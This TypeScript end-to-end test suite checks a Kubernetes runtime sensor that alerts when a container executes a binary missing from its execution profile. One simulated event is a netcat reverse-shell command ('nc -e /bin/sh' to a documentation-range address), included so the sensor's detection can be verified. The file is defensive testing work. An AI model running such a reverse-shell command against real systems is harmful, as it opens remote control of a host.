import {
  apiCall,
  containerIdOf,
  containerProfilesPath,
  deletePod,
  openTempDir,
  TetragonLineWriter,
  waitFor,
  type ClusterFixture,
  type TempDir,
} from "@kinglet/testing";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { SensorProcess } from "./sensor-process.ts";
import {
  addProfile,
  addWorkload,
  executes,
  nodeName,
  permitted,
  prepareShop,
  profileNameOf,
  restartContainer,
  type ShopWorkload,
} from "./shop.ts";

/** The main job, end to end, on whatever API server `open` gives: the same cases for a simulated and a real one. */
export function mainJobSuite(title: string, open: () => Promise<ClusterFixture>, isSkipped = false): void {
  describe.skipIf(isSkipped)(title, () => {
    let fixture: ClusterFixture;
    let folder: TempDir;
    let events: TetragonLineWriter;
    let namespace: string;
    let tests = 0;

    beforeAll(async () => {
      fixture = await open();
    });
    afterAll(() => fixture?.[Symbol.asyncDispose]());
    beforeEach(async () => {
      tests += 1;
      namespace = `shop-${String(tests)}`;
      folder = await openTempDir("kinglet e2e ");
      events = new TetragonLineWriter(folder.file("tetragon.log"));
      await events.write();
      await prepareShop(fixture, namespace);
    });
    afterEach(async () => {
      await events.close();
      await folder[Symbol.asyncDispose]();
    });

    const startSensor = async (...args: readonly string[]): Promise<SensorProcess> => {
      const sensor = await SensorProcess.start({
        folder: folder.path,
        kubeconfig: fixture.kubeconfigPath,
        tetragonFile: events.path,
        args: ["--node-name", nodeName, "--cluster-name", "test", "--profile-refresh", "1s", ...args],
      });
      await sensor.ready();
      return sensor;
    };
    const execIds = (sensor: SensorProcess): readonly string[] => sensor.alerts().map((alert) => alert.process.execId);
    const judged = (sensor: SensorProcess): Promise<number> =>
      sensor.metric('kinglet_sensor_executions_total{outcome="judged"}');

    it("alerts on an execution outside the profile and on nothing else", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor();
      const bad = executes(cart, "/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444");
      await events.write(executes(cart, "/usr/local/bin/node").line, bad.line, executes(cart, "/bin/sh").line);
      const alert = await sensor.alert((row) => row.process.execId === bad.execId, "for nc");
      expect(alert).toMatchObject({
        ruleId: "R0001",
        clusterName: "test",
        nodeName,
        namespace,
        podName: cart.podName,
        containerName: "app",
        containerId: cart.containerId,
        workloadKind: "Deployment",
        workloadName: "cart",
        process: { binary: "/usr/bin/nc" },
        profile: { name: profileNameOf(cart), status: "completed", failOnProfile: true },
      });
      await waitFor(async () => (await judged(sensor)) === 3, { describe: "three judged executions" });
      expect(execIds(sensor)).toEqual([bad.execId]);
      expect(await sensor.stop()).toBe(0);
    });

    it("reads the execution that comes before its pod, and the one that comes before its profile", async () => {
      await using sensor = await startSensor();
      const early = futureWorkload("early");
      const unprofiled = futureWorkload("unprofiled");
      const first = executes(early, "/usr/bin/id");
      await events.write(first.line);
      await addWorkload(fixture, namespace, "early");
      await sensor.alert((row) => row.process.execId === first.execId, "for the early execution");
      await addWorkload(fixture, namespace, "unprofiled", { hasProfile: false });
      await waitFor(async () => (await debugState(sensor, unprofiled)) === "pending", {
        describe: "a container without profile",
      });
      await addProfile(fixture, unprofiled, permitted);
      await waitFor(async () => (await debugState(sensor, unprofiled)) === "active", {
        describe: "its profile",
        timeoutMs: 20_000,
      });
      const second = executes(unprofiled, "/usr/bin/id");
      await events.write(second.line);
      await sensor.alert((row) => row.process.execId === second.execId, "after the profile came");
    });

    it("takes up a changed and a deleted profile at the next tick", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor();
      const path = `${containerProfilesPath(namespace)}/${profileNameOf(cart)}`;
      await apiCall(fixture, "PATCH", path, {
        spec: { execs: [...permitted, "/usr/bin/curl"].map((name) => ({ path: name, args: [name] })) },
      });
      await waitFor(
        async () => {
          const before = sensor.alerts().length;
          const count = await judged(sensor);
          await events.write(executes(cart, "/usr/bin/curl").line);
          await waitFor(async () => (await judged(sensor)) > count, { describe: "the execution to be judged" });
          return sensor.alerts().length === before;
        },
        { describe: "curl to be permitted", timeoutMs: 20_000, intervalMs: 300 },
      );
      await apiCall(fixture, "DELETE", path);
      await waitFor(async () => (await debugState(sensor, cart)) === "pending", {
        describe: "the container to be pending again",
        timeoutMs: 20_000,
      });
    });

    it("loses nothing across rotations of the event file, also in the middle of a line", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor();
      const expected: string[] = [];
      for (let round = 0; round < 4; round += 1) {
        for (let index = 0; index < 5; index += 1) {
          const { line, execId } = executes(cart, `/tmp/dropper-${String(round)}-${String(index)}`);
          expected.push(execId);
          await events.write(line);
        }
        const cut = executes(cart, "/tmp/cut");
        expected.push(cut.execId);
        await events.writePartial(cut.line.slice(0, 100));
        if (round % 2 === 0)
          await waitFor(() => execIds(sensor).length >= expected.length - 1, {
            describe: "the lines before the cut one",
          });
        await events.writePartial(`${cut.line.slice(100)}\n`);
        await events.rotate();
      }
      await waitFor(() => execIds(sensor).length >= expected.length, { describe: "all alerts", timeoutMs: 20_000 });
      expect(execIds(sensor)).toEqual(expected);
    });

    it("goes on after a restart of the API server", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor();
      const whileDown = executes(cart, "/usr/bin/whoami");
      const restart = fixture.restart();
      await events.write(whileDown.line);
      await sensor.alert((row) => row.process.execId === whileDown.execId, "while the API server restarts");
      await restart;
      const late = await addWorkload(fixture, namespace, "late");
      const afterwards = executes(late, "/usr/bin/whoami");
      await waitFor(async () => (await debugState(sensor, late)) === "active", {
        describe: "the new pod and its profile",
        timeoutMs: 60_000,
      });
      await events.write(afterwards.line);
      await sensor.alert((row) => row.process.execId === afterwards.execId, "after the restart");
    });

    it("loses no event over kill -9 and repeats at most one alert per kill, with the same unique id", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      const expected: string[] = [];
      const seen: { readonly execId: string; readonly uniqueId: string }[] = [];
      const kills = 4;
      for (let round = 0; round <= kills; round += 1) {
        await using sensor = await startSensor();
        const writing = (async () => {
          for (let index = 0; index < 40; index += 1) {
            const { line, execId } = executes(cart, `/tmp/x${String(index)}`);
            expected.push(execId);
            await events.write(line);
            if (index === 20) await events.rotate();
          }
        })();
        if (round < kills) {
          await waitFor(() => sensor.alerts().length > 3 + round * 7, {
            describe: "some alerts before the kill",
            intervalMs: 1,
          });
          await sensor.stop("SIGKILL");
          await writing;
        } else {
          await writing;
          const others = new Set(seen.map((row) => row.execId));
          const missing = (): number => {
            const all = new Set([...others, ...execIds(sensor)]);
            return expected.filter((execId) => !all.has(execId)).length;
          };
          await waitFor(() => missing() === 0, {
            describe: () => `${String(missing())} missing alerts`,
            timeoutMs: 30_000,
          });
          expect(await sensor.stop()).toBe(0);
        }
        seen.push(...sensor.alerts().map((alert) => ({ execId: alert.process.execId, uniqueId: alert.uniqueId })));
      }
      expect(new Set(seen.map((row) => row.execId))).toEqual(new Set(expected));
      expect(seen.length - expected.length).toBeLessThanOrEqual(kills);
      const ids = new Map<string, string>();
      for (const { execId, uniqueId } of seen)
        expect(ids.get(execId) ?? uniqueId).toBe((ids.set(execId, uniqueId), uniqueId));
    });

    it("follows a container that is restarted, and a pod that is deleted", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor();
      const before = executes(cart, "/usr/bin/id");
      await events.write(before.line);
      await sensor.alert((row) => row.process.execId === before.execId, "from the first container");
      const again = await restartContainer(fixture, cart, 1);
      await waitFor(async () => (await debugState(sensor, again)) === "active", {
        describe: "the restarted container",
      });
      const after = executes(again, "/usr/bin/id");
      await events.write(after.line);
      const alert = await sensor.alert((row) => row.process.execId === after.execId, "from the restarted container");
      expect(alert.containerId).toBe(again.containerId);
      await deletePod(fixture, namespace, cart.podName);
      await waitFor(async () => (await debugState(sensor, again)) !== "active", {
        describe: "the container to be gone",
        timeoutMs: 20_000,
      });
      expect((await sensor.http("/readyz")).status).toBe(200);
    });

    it("does not watch ignored namespaces", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await startSensor("--ignore-namespaces", namespace);
      await events.write(executes(cart, "/usr/bin/id").line);
      await waitFor(async () => (await sensor.metric('kinglet_sensor_executions_total{outcome="ignored"}')) === 1, {
        describe: "the execution to be passed over",
      });
      expect(sensor.alerts()).toEqual([]);
    });

    it("watches the pods of all nodes with --scope cluster", async () => {
      const cart = await addWorkload(fixture, namespace, "cart");
      await using sensor = await SensorProcess.start({
        folder: folder.path,
        kubeconfig: fixture.kubeconfigPath,
        tetragonFile: events.path,
        args: ["--scope", "cluster", "--cluster-name", "test"],
      });
      await sensor.ready();
      const bad = executes(cart, "/usr/bin/id");
      await events.write(bad.line);
      const alert = await sensor.alert((row) => row.process.execId === bad.execId, "with cluster scope");
      expect([alert.workloadKind, alert.workloadName]).toEqual(["Deployment", "cart"]);
    });

    /** The workload as it will be, before it is created: its container id is known. */
    function futureWorkload(name: string): ShopWorkload {
      const replicaSet = `${name}-7d9f6c5b48`;
      const podName = `${replicaSet}-x2k9p`;
      return {
        namespace,
        podName,
        containerName: "app",
        containerId: containerIdOf(`${namespace}/${podName}/app/0`),
        replicaSet,
      };
    }

    async function debugState(sensor: SensorProcess, workload: ShopWorkload): Promise<string | undefined> {
      const { text } = await sensor.debug("/debug/containers");
      const rows =
        text === ""
          ? []
          : (
              JSON.parse(text) as {
                readonly containers: readonly { readonly containerId: string; readonly state: string }[];
              }
            ).containers;
      return rows.find((row) => row.containerId === workload.containerId)?.state;
    }
  });
}
